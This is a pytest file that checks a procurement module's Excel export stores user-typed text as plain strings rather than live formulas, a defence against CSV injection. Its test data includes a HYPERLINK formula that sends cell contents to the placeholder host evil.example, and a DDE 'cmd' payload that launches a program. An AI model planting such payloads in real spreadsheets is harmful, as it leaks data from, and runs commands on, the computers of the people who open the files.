"""procurement.excel_write: what a user typed goes into a cell as text, never as a formula (issue 8 point 5).

Rule: OWASP "CSV Injection" — a cell starting with = + - @ tab or CR must not be evaluated by the
spreadsheet that opens the export. The workbooks are reopened with openpyxl *without* ``data_only``,
so a formula would come back as a formula cell (data type "f").
"""

from __future__ import annotations

import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from procurement.excel_write import sheet_put, write_only_cell, write_only_row

# What a hostile or careless user types into a name, a title or a note.
FORMULA_LOOKING = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(1)",
    "\t=1+1",
    "#N/A",  # an error code: openpyxl would write an error cell
]


def saved(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def reopened_row(data: bytes) -> list:
    return next(load_workbook(BytesIO(data)).worksheets[0].iter_rows(min_row=1, max_row=1))


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_formula_looking_text_comes_back_as_the_same_text(write_only):
    values = [*FORMULA_LOOKING, "台式计算机", 3, Decimal("4800.50"), None]
    book = Workbook(write_only=write_only)
    if write_only:
        sheet = book.create_sheet("表")
        sheet.append(write_only_row(sheet, values))
    else:
        sheet = book.active
        for column, value in enumerate(values, start=1):
            sheet_put(sheet, 1, column, value)

    cells = reopened_row(saved(book))

    for cell, typed in zip(cells, [*FORMULA_LOOKING, "台式计算机"], strict=False):
        assert (cell.data_type, cell.value) == ("s", typed)
    # The text that Excel would read as a formula if the cell were edited keeps the apostrophe mark (a style).
    assert [cell.quotePrefix for cell in cells[:6]] == [True] * 6
    assert not cells[7].quotePrefix
    # Numbers stay numbers.
    assert (cells[8].data_type, cells[8].value) == ("n", 3)
    assert (cells[9].data_type, cells[9].value) == ("n", 4800.5)


def test_the_file_holds_no_formula_element():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("表")
    sheet.append(write_only_row(sheet, FORMULA_LOOKING))
    sheet.append([write_only_cell(sheet, FORMULA_LOOKING[0])])
    with zipfile.ZipFile(BytesIO(saved(book))) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == len(FORMULA_LOOKING) + 1


def test_characters_no_workbook_can_hold_are_dropped_not_a_crash():
    """A control character pasted into a contact name would make openpyxl raise IllegalCharacterError (a 500)."""
    book = Workbook()
    sheet_put(book.active, 1, 1, "张\x01敏\x1f")
    assert reopened_row(saved(book))[0].value == "张敏"
